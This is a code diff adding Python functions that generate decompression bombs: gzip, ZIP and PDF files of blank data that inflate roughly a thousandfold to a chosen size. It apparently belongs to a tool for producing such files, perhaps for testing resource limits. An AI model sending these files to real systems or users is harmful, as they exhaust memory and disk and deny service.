@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 
@@ -30,6 +31,51 @@ class Bomb:
     def file(self) -> str:
         """A name for it as a file."""
         return f"{self.name.replace(' ', '-')}.{self.extension}"
+
+
+def deflated(size: int) -> bytes:
+    """A deflate stream (RFC 1951) of blanks, of about a thousandth of what it expands to.
+
+    Args:
+        size: What it expands to, in MiB.
+    """
+    packing = zlib.compressobj(9, wbits=-15)
+    block = packing.compress(b" " * (1 << 20)) + packing.flush(zlib.Z_FULL_FLUSH)
+    return block * size + b"\x03\x00"
+
+
+def large_gzip(size: int) -> bytes:
+    """A gzip file (RFC 1952) that expands to so many MiB."""
+    end = zlib.crc32(b"").to_bytes(4, "little") + (size << 20 & 0xFFFFFFFF).to_bytes(4, "little")
+    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + deflated(size) + end
+
+
+def large_zip(size: int) -> bytes:
+    """A ZIP file with one member that expands to so many MiB."""
+    data, name = deflated(size), b"page.html"
+    sizes = len(data).to_bytes(4, "little") + (size << 20).to_bytes(4, "little")
+    what = b"\x14\0\0\0\x08\0" + bytes(8) + sizes + len(name).to_bytes(2, "little") + bytes(2)
+    local = b"PK\x03\x04" + what + name + data
+    listed = b"PK\x01\x02\x14\0" + what + bytes(14) + name
+    counts = b"\x01\0\x01\0" + len(listed).to_bytes(4, "little") + len(local).to_bytes(4, "little")
+    return local + listed + b"PK\x05\x06" + bytes(4) + counts + bytes(2)
+
+
+def large_pdf(size: int) -> bytes:
+    """A PDF whose one page has a content stream that expands to so many MiB (ISO 32000-2, 7.4.4)."""
+    stream = b"\x78\xda" + deflated(size) + bytes(4)
+    objects = (
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<>>>>",
+        b"<</Length %d/Filter/FlateDecode>>\nstream\n%b\nendstream" % (len(stream), stream),
+    )
+    data, places = b"%PDF-1.4\n", b""
+    for number, content in enumerate(objects, 1):
+        places += b"%010d 00000 n \n" % len(data)
+        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
+    table = b"xref\n0 5\n0000000000 65535 f \n" + places + b"trailer\n<</Size 5/Root 1 0 R>>\n"
+    return data + table + b"startxref\n%d\n%%%%EOF\n" % len(data)
 
 
 def triple_terms(depth: int) -> bytes:
